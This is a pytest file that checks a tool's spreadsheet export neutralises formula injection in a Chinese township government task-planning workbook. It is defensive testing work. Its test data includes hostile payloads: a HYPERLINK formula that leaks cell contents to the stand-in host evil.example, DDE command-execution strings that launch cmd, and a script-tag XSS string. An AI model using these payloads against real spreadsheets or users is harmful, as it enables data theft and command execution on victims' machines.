"""Formula injection (公式注入): text that a spreadsheet would run stays text in the 任务分解表 workbook."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from luoshi.export.xlsx import neutralise, to_xlsx, unneutralise
from luoshi.plan import Plan, Section, Target, Task

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_it_prefixes_text_that_starts_a_formula(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["增长11%", "2025-12-31", "'引号开头", "", "A=B", "<script>alert(1)</script>"])
def test_it_leaves_other_text_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize("text", [*ATTACKS, "增长11%", "'引号开头", "''=x"])
def test_unneutralise_gives_back_what_neutralise_was_given(text: str) -> None:
    assert unneutralise(neutralise(text)) == text


def _hostile_plan() -> Plan:
    section = Section("1", "一", "=1+1", None)
    target = Target("g1", "1", "@指标", "quantity", "=", 3, "家", "2025-12-31", "", "")
    task = Task("t1", "1", "=HYPERLINK(\"http://evil.example\")", "2025-12-31", "", lead="+经济发展办",
                cooperating=("-规划建设办", "财政所"), targets=("g1",))
    return Plan("水口镇人民政府", 2025, sections=(section,), targets=(target,), tasks=(task,))


def test_the_cli_workbook_holds_no_formula_in_any_cell() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_hostile_plan())))["任务分解表"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'=HYPERLINK(\"http://evil.example\")" in values
    assert {"'+经济发展办", "'-规划建设办、财政所"} <= values


def test_the_cli_workbook_keeps_html_as_plain_text() -> None:
    plan = _hostile_plan()
    task = Task("t1", "1", "<script>alert(1)</script>", "2025-12-31", "")
    sheet = load_workbook(io.BytesIO(to_xlsx(Plan(plan.issuer, 2025, sections=plan.sections, tasks=(task,)))))
    assert "<script>alert(1)</script>" in [c.value for row in sheet.active.iter_rows() for c in row]
